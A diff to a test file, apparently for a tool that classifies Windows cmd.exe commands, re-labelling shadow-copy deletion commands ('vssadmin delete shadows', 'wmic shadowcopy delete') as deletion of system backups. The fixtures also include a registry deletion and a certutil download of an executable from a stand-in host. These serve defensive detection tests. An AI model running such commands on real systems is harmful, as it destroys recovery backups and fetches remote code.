@@ -138,8 +138,14 @@ describe('what can be read off cmd.exe is read', () => {
       { kind: 'shell.run', codeFrom: 'network' },
     ],
     [String.raw`reg delete 'HKLM\SOFTWARE\X' /f`, { kind: 'file.delete', manner: 'registry' }],
-    ['vssadmin delete shadows /all /quiet', { kind: 'file.delete', manner: 'backups' }],
-    ['wmic shadowcopy delete', { kind: 'file.delete', manner: 'backups' }],
+    [
+      'vssadmin delete shadows /all /quiet',
+      { kind: 'infra.change', operation: 'delete', subject: 'system backups' },
+    ],
+    [
+      'wmic shadowcopy delete',
+      { kind: 'infra.change', operation: 'delete', subject: 'system backups' },
+    ],
     [
       'certutil -urlcache -f https://a.example/x x.exe',
       { kind: 'net.connect', host: 'a.example', program: 'certutil' },
